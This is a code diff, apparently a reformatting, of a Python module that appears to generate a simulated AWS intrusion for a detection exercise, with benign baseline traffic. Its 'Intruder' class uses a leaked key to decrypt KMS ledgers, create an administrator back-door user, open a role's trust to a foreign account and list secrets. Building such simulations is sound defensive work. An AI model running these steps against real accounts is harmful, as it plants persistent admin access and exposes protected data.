@@ -76,8 +76,12 @@ class Intruder:
     def _as(self, keys: KeyPair, minutes: int, region: str = estate.REGION, ip: int = 0) -> AwsCaller:
         jitter = timedelta(seconds=self._random.randrange(50))
         when = self._alarm_at - timedelta(minutes=minutes) + jitter
-        return AwsCaller(self._endpoint, keys, region, {
-            "User-Agent": _AGENTS[ip], SOURCE_IP: _IPS[ip], AT: str(int(when.timestamp())), TOKEN: self._token})
+        return AwsCaller(
+            self._endpoint,
+            keys,
+            region,
+            {"User-Agent": _AGENTS[ip], SOURCE_IP: _IPS[ip], AT: str(int(when.timestamp())), TOKEN: self._token},
+        )
 
     def _look_around(self) -> None:
         leaked = self._found.leaked
@@ -102,20 +106,34 @@ class Intruder:
             self._decrypt(self._as(leaked, 148), estate.LEDGERS[0], estate.LEDGERS[1])
 
     def _decrypt(self, caller: AwsCaller, ledger: str, said: str) -> None:
-        caller.json("kms", "Decrypt", {
-            "CiphertextBlob": self._found.ciphertexts[ledger], "EncryptionContext": context(said)})
+        caller.json(
+            "kms", "Decrypt", {"CiphertextBlob": self._found.ciphertexts[ledger], "EncryptionContext": context(said)}
+        )
 
     def _build_back_door(self) -> KeyPair:
         leaked = self._found.leaked
         self._as(leaked, 122).query("iam", "CreateUser", {"UserName": BACK_DOOR_USER})
         made = self._as(leaked, 121).query("iam", "CreateAccessKey", {"UserName": BACK_DOOR_USER})
-        self._as(leaked, 120).query("iam", "AttachUserPolicy", {
-            "UserName": BACK_DOOR_USER, "PolicyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
-        trust = {"Version": "2012-10-17", "Statement": [
-            {"Effect": "Allow", "Action": "sts:AssumeRole", "Principal": {"AWS": [
-                f"arn:aws:iam::{estate.ACCOUNT}:root", f"arn:aws:iam::{FOREIGN_ACCOUNT}:root"]}}]}
-        self._as(leaked, 111).query("iam", "UpdateAssumeRolePolicy", {
-            "RoleName": estate.READER_ROLE, "PolicyDocument": json.dumps(trust)})
+        self._as(leaked, 120).query(
+            "iam",
+            "AttachUserPolicy",
+            {"UserName": BACK_DOOR_USER, "PolicyArn": "arn:aws:iam::aws:policy/AdministratorAccess"},
+        )
+        trust = {
+            "Version": "2012-10-17",
+            "Statement": [
+                {
+                    "Effect": "Allow",
+                    "Action": "sts:AssumeRole",
+                    "Principal": {
+                        "AWS": [f"arn:aws:iam::{estate.ACCOUNT}:root", f"arn:aws:iam::{FOREIGN_ACCOUNT}:root"]
+                    },
+                }
+            ],
+        }
+        self._as(leaked, 111).query(
+            "iam", "UpdateAssumeRolePolicy", {"RoleName": estate.READER_ROLE, "PolicyDocument": json.dumps(trust)}
+        )
         pair = key_pair(made)
         self._as(pair, 98, ip=1).query("sts", "GetCallerIdentity", {})
         self._as(pair, 97, ip=1).json("secretsmanager", "ListSecrets", {})
@@ -139,10 +157,17 @@ def past_use(endpoint: str, token: str, found: Estate, alarm_at: datetime) -> No
     """The leaked key's honest use in the day before: the apps decrypting and CI looking at its services."""
     for hours in range(24, 0, -3):
         when = alarm_at - timedelta(hours=hours, minutes=7)
-        app = AwsCaller(endpoint, found.leaked, estate.REGION, {
-            "User-Agent": "acme-app/2026.11", SOURCE_IP: "10.0.4.21", AT: str(int(when.timestamp())), TOKEN: token})
-        app.json("kms", "Decrypt", {"CiphertextBlob": found.ciphertexts[estate.LEDGERS[-1]],
-                                    "EncryptionContext": context(estate.LEDGERS[-1])})
+        app = AwsCaller(
+            endpoint,
+            found.leaked,
+            estate.REGION,
+            {"User-Agent": "acme-app/2026.11", SOURCE_IP: "10.0.4.21", AT: str(int(when.timestamp())), TOKEN: token},
+        )
+        app.json(
+            "kms",
+            "Decrypt",
+            {"CiphertextBlob": found.ciphertexts[estate.LEDGERS[-1]], "EncryptionContext": context(estate.LEDGERS[-1])},
+        )
         agent = "aws-cli/2.31.0 md/github-actions"
         ci = replace(app, headers={**app.headers, "User-Agent": agent, SOURCE_IP: "10.0.9.8"})
         ci.json("ecs", "DescribeServices", {"cluster": estate.CLUSTER, "services": list(estate.SERVICES)})
